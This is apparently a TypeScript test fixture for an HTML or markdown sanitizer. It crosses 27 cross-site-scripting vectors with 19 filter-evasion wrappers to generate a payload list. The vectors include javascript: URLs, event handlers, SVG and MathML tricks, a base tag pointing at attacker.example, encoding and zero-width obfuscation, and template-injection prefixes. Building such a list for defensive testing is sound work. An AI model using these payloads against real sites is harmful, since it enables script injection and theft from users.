/** Texts that try to become code: every way in crossed with every way of hiding it. Each would set `window.hit`. */
const CODE = 'window.hit=1';

const VECTORS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<script src="/v1/x.js"></script>`,
  `<img src=x onerror=${CODE}>`,
  `<img src="javascript:${CODE}">`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><a xlink:href="javascript:${CODE}"><text y=20>go</text></a></svg>`,
  `<math><mi xlink:href="javascript:${CODE}">go</mi></math>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<body onload=${CODE}>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<video><source onerror=${CODE}></video>`,
  `<input autofocus onfocus=${CODE}>`,
  `<form action="javascript:${CODE}"><button>go</button></form>`,
  `<a href="javascript:${CODE}">go</a>`,
  `[go](javascript:${CODE})`,
  `![x](javascript:${CODE})`,
  `<javascript:${CODE}>`,
  `[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<style>@import 'javascript:${CODE}';</style>`,
  `<link rel=stylesheet href="javascript:${CODE}">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<marquee onstart=${CODE}>x</marquee>`,
];

const HIDINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'">${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `<!--${text}-->${text}`,
  (text) => `]]>${text}`,
  (text) => text.toUpperCase().replaceAll(CODE.toUpperCase(), CODE),
  (text) => text.replace('<', '<\u0020').replace('<\u0020', '<'),
  (text) => text.replace('script', 'scr\u200bipt'),
  (text) => text.replace('javascript', 'java\tscript'),
  (text) => text.replace('javascript', 'jav&#x61;script'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replace(' ', '/'),
  (text) => text.replace(' ', '\u000c'),
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `> ${text}`,
  (text) => `{{constructor.constructor('${CODE}')()}} ${text}`,
  (text) => `\${${CODE}} ${text}`,
];

export const PAYLOADS: readonly string[] = [
  ...new Set(VECTORS.flatMap((vector) => HIDINGS.map((hide) => hide(vector)))),
];
